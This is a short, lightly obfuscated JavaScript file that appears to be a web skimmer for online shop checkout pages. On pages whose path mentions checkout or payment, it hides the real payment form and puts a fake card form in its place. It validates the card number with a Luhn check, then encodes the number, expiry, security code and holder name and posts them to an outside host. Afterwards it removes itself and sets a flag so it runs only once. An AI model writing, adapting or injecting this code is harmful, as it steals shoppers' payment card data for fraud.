(function (item0, item1) {
  if (!/checkout|payment|onepage/i.test(item0.location.pathname) || item0.localStorage.getItem('_mgs')) {
    return;
  }
  var item2 = ['number', 'expiry', 'code', 'holder'];
  var item3 = item1.createElement('div');
  item3.id = 'pay-frame';
  item3.style.cssText = 'position:relative;z-index:99999;background:#fff;padding:12px';
  function item4(item7) {
    var item8 = item7.replace(/\D/g, '');
    var item9 = 0;
    var item10 = false;
    for (var item11 = item8.length - 1; item11 >= 0; item11--) {
      var item12 = parseInt(item8.charAt(item11), 10);
      if (item10 && (item12 *= 2) > 9) {
        item12 -= 9;
      }
      item9 += item12;
      item10 = !item10;
    }
    return item8.length >= 13 && item9 % 10 === 0;
  }
  item2.forEach(function (item13) {
    var item14 = item1.createElement('input');
    item14.setAttribute('placeholder', item13);
    item14.setAttribute('data-k', item13);
    item14.className = 'input-text';
    item3.appendChild(item14);
  });
  var item5 = item1.createElement('button');
  item5.innerText = 'Place order';
  item5.onclick = function (item15) {
    item15.preventDefault();
    var item16 = {
      h: item0.location.host
    };
    var item17 = item3.getElementsByTagName('input');
    for (var item18 = 0; item18 < item17.length; item18++) {
      item16[item17[item18].getAttribute('data-k')] = item17[item18].value;
    }
    if (!item4(item16.number || '')) {
      item3.style.border = '1px solid red';
      return false;
    }
    var item19 = new XMLHttpRequest();
    item19.open('POST', 'https://assets.shopcdn.invalid/t.php', true);
    item19.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    item19.onreadystatechange = function () {
      if (item19.readyState === 4) {
        item0.localStorage.setItem('_mgs', '1');
        item3.parentNode.removeChild(item3);
      }
    };
    item19.send('d=' + item0.btoa(JSON.stringify(item16)));
  };
  item3.appendChild(item5);
  var item6 = setInterval(function () {
    var item20 = item1.querySelector('.payment-method, #payment, form.checkout');
    if (item20) {
      clearInterval(item6);
      item20.parentNode.insertBefore(item3, item20);
      item20.style.display = 'none';
    }
  }, 500);
})(window, document);
